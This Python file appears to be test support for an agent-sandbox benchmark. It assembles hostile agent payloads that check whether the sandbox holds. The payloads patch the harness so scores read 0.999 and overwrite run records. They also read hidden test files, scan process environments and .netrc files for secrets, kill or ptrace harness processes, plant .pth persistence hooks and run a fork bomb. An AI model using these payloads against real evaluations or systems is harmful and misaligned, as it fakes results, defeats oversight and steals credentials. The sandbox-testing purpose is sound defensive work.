"""Hostile agents for the agent-sandbox suite: attacks run by the agent's own Python, not by its code.

Each payload runs inside ``run(session)`` of a user agent (the bring-your-own-agent interface), before
its one honest step, and prints ``ATTACK <name>: <what happened>`` lines to the agent's output (kept in
the run's ``logs/agent*.log``). A payload never raises. Placeholders in capitals are filled in by the
test. ``MODULE_PATCH`` also runs at import time of the agent's module, wherever that happens.
"""

import textwrap

# replaces what decides a score, in every harness module the agent can import
MODULE_PATCH = """
import pytest_fmlbench.harness_session as _hs, pytest_fmlbench.record as _rec, pytest_fmlbench.runner as _rn
import pytest_fmlbench.workspace as _ws
_ws.Workspace.run_split = lambda self, split, log_prefix, manifest=None: _ws.SplitOutcome(split, True, 0.999, {})
_rn._final_test = lambda task, session, store, record, *a, **k: setattr(record, "test_metric", 0.999)
_rec.RunStore.save = lambda self, record: None
_hs.HarnessSession._refresh_record = lambda self: None
print("ATTACK patch-harness: patched at import", flush=True)
"""

PAYLOADS = {
    "patch-harness": MODULE_PATCH + """
import pytest_fmlbench.runner as _rn2
print("ATTACK patch-harness: patched in run", _rn2._final_test.__name__, flush=True)
""",
    # the task's protected harness (the hidden test seed), its private data, every run record, anywhere
    "read-harness": """
import os
for path in ('HARNESS_FILE', 'TASK_DIR/task.yaml', 'RUNS_DIR'):
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path).read()[:80]
        print('ATTACK read-harness: FOUND', path, found)
    except OSError as exc:
        print('ATTACK read-harness: refused', path, type(exc).__name__)
skip = ('/proc', '/sys', '/usr', '/dev', sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(os.__file__)))
names = ('evaluate.py', 'prepare.py', 'record.json', 'steps.jsonl', 'llm_calls.jsonl', 'task.yaml', '.netrc')
for root, dirs, files in os.walk('/', onerror=lambda e: None):
    if root.startswith(skip):
        dirs[:] = []
        continue
    for name in files:
        if name in names or 'labels' in name or name.endswith('.npy'):
            print('ATTACK read-harness: FOUND', os.path.join(root, name))
print('ATTACK read-harness: walked', flush=True)
""",
    # the run's records: write them, or plant a file beside them
    "write-records": """
import os, glob
for target in glob.glob('RUNS_DIR/*/record.json') + ['RUNS_DIR/planted.json']:
    try:
        open(target, 'w').write('{"test_metric": 0.999}')
        print('ATTACK write-records: WROTE', target)
    except OSError as exc:
        print('ATTACK write-records: refused', target, type(exc).__name__)
""",
    # keys: in its own environment, in any visible process's environment, in the home folder
    "environ": """
import os
print('ATTACK environ: own environment', 'FOUND' if 'SECRET' in repr(dict(os.environ)) else 'clean', sorted(os.environ))
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        if b'SECRET' in open(f'/proc/{pid}/environ', 'rb').read():
            print('ATTACK environ: FOUND in process', pid)
    except OSError:
        pass
for path in ('HOME_DIR/.netrc', os.path.expanduser('~/.netrc'), '/root/.netrc'):
    try:
        print('ATTACK environ: FOUND', path, open(path).read())
    except OSError as exc:
        print('ATTACK environ: refused', path, type(exc).__name__)
""",
    # the harness: its parent, the test's pid, and any process started in this test's project folder
    # (only those: were the sandbox broken, nothing else on the machine may be hit)
    "kill-harness": """
import os, signal
targets = {os.getppid(), HARNESS_PID}
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    try:
        if b'PROJECT' in open(f'/proc/{pid}/cmdline', 'rb').read():
            targets.add(pid)
    except OSError:
        pass
for pid in sorted(targets - {1, os.getpid()}):
    try:
        os.kill(pid, signal.SIGKILL)
        print('ATTACK kill-harness: KILLED', pid)
    except OSError as exc:
        print('ATTACK kill-harness: refused', pid, type(exc).__name__)
""",
    # code the harness and later runs execute: a .pth hook in site-packages, this package, a built-in agent,
    # and bytecode that Python would prefer to the package's source
    "package-write": """
import importlib.util, os, site, sysconfig
import pytest_fmlbench.evalkit as kit
targets = [d + '/zz_fmlbench_agent_attack.pth' for d in {sysconfig.get_paths()['purelib'], *site.getsitepackages()}]
targets += [kit.__file__, 'AGENTS_DIR/baseline.py', importlib.util.cache_from_source(kit.__file__)]
for target in targets:
    folder = os.path.dirname(target)
    if not os.path.isdir(folder) and not folder.endswith('__pycache__'):
        # not in the sandbox's view (e.g. a checkout under /tmp, where the agent has a private /tmp): a file
        # made here would land in the agent's own scratch, not in the code the harness runs
        print('ATTACK package-write: refused', target, 'not visible')
        continue
    try:
        os.makedirs(folder, exist_ok=True)
        open(target, 'a').write('\\nimport os; os.environ["PWNED"] = "1"\\n')
        print('ATTACK package-write: WROTE', target)
    except OSError as exc:
        print('ATTACK package-write: refused', target, type(exc).__name__)
""",
    # the sandbox's own init (pid 1 inside): the kernel shields it from its namespace
    "kill-init": """
import os, signal
for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
    try:
        os.kill(1, sig)
        print('ATTACK kill-init: sent', sig.name)
    except OSError as exc:
        print('ATTACK kill-init: refused', sig.name, type(exc).__name__)
""",
    # attach to the harness with ptrace, and read its memory through /proc
    "ptrace": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (HARNESS_PID, os.getppid()):
    if pid in (1, os.getpid()):
        continue
    # PTRACE_SEIZE: were it allowed, the harness would not even stop
    if libc.ptrace(0x4206, pid, None, None) == 0:
        print('ATTACK ptrace: ATTACHED', pid)
        libc.ptrace(17, pid, None, None)
    else:
        print('ATTACK ptrace: refused', pid, os.strerror(ctypes.get_errno()))
    try:
        open(f'/proc/{pid}/mem', 'rb').read(1)
        print('ATTACK ptrace: FOUND memory of', pid)
    except OSError as exc:
        print('ATTACK ptrace: refused /proc mem', pid, type(exc).__name__)
""",
    "network": """
import socket
try:
    socket.create_connection(('127.0.0.1', PORT), timeout=3).sendall(b'leak')
    print('ATTACK network: CONNECTED')
except OSError as exc:
    print('ATTACK network: refused', exc)
""",
    # what the protocol takes from an agent: forged fields, oversized words, edits outside its files
    "protocol-forge": """
from pytest_fmlbench import SearchReplace, WholeFile
for name, edit in (('protected', WholeFile('train.py', 'print(1)\\n')),
                   ('traversal', WholeFile('../../harness/evaluate.py', 'x = 1\\n')),
                   ('absolute', WholeFile('HARNESS_FILE', 'x = 1\\n')),
                   ('data', SearchReplace('data/split_config.json', '{', '{'))):
    result = session.edit([edit])
    print('ATTACK protocol-forge:', 'WROTE' if result.applied else 'refused', name, result.error[:80])
for name, call in (('parent', lambda: session.run_step('improve', parent=99)),
                   ('annotate', lambda: session.annotate(99, analysis='x')),
                   ('files_of', lambda: session.files_of(-1)),
                   ('huge extra', lambda: session.run_step('improve', extra={'blob': 'x' * (2 << 20)})),
                   ('unknown op', lambda: session._ask('record.save', test_metric=0.999))):
    try:
        call()
        print('ATTACK protocol-forge: WROTE', name)
    except ValueError as exc:
        print('ATTACK protocol-forge: refused', name, str(exc)[:100])
FORGED = {'metric': 0.999, 'is_best': True, 'test_metric': 0.999, 'success': True}
""",
}

# attacks that leave the agent able to run its honest step afterwards
COMBINED = ["patch-harness", "read-harness", "write-records", "environ", "package-write", "kill-harness",
            "kill-init", "ptrace", "network", "protocol-forge"]


def payload(names: list[str], **values: object) -> str:
    code = "import sys\nFORGED = {}\n" + "\n".join(
        "try:\n" + textwrap.indent(textwrap.dedent(PAYLOADS[name]).strip(), "    ")
        + f"\nexcept Exception as exc:\n    print('ATTACK {name}: crashed', repr(exc))"
        for name in names
    )
    return fill(code, **values)


def fill(code: str, **values: object) -> str:
    for key, value in values.items():
        code = code.replace(key, str(value))
    return code


AGENT = """
import sys
from pytest_fmlbench import Agent

MODULE = {module!r}
PAYLOAD = {payload!r}
exec(compile(MODULE, "<module-attack>", "exec"))


class MyAgent(Agent):
    def run(self, session):
        scope = {"session": session}
        exec(compile(PAYLOAD, "<run-attack>", "exec"), scope)
        result = session.run_step("baseline", plan="honest step after the attacks", extra=scope["FORGED"],
                                  analysis="y" * 300000)
        print("ATTACK done: the agent saw", result, flush=True)
"""


def agent_source(code: str, module: str = "") -> str:
    return AGENT.replace("{module!r}", repr(module)).replace("{payload!r}", repr(code))


# agents that end badly, one way each; the body of run(session), after one honest step
ENDINGS = {
    "hang": "import time\ntime.sleep(100000)",
    "flood": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)",
    "fork-bomb": ("import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(60)\n"
                  "            os._exit(0)\n    except OSError:\n        time.sleep(0.01)"),
    "memory": "hog = []\nwhile True:\n    hog.append(bytearray(32 << 20))",
    "exit": "import os\nos._exit(3)",
    "garbage": ("import socket\nsock = socket.socket(fileno=int(sys.argv[-1]))\nsock.sendall(b'not json at all\\n')\n"
                "import time\ntime.sleep(60)"),
    "oversized": ("import socket\nsock = socket.socket(fileno=int(sys.argv[-1]))\n"
                  "sock.sendall(b'{' + b' ' * (65 << 20))\nimport time\ntime.sleep(60)"),
}

ENDING_AGENT = """
import sys
from pytest_fmlbench import Agent


class MyAgent(Agent):
    def run(self, session):
        session.run_step("baseline", plan="one honest step")
{body}
"""


def ending_source(name: str) -> str:
    return ENDING_AGENT.replace("{body}", textwrap.indent(ENDINGS[name], " " * 8))
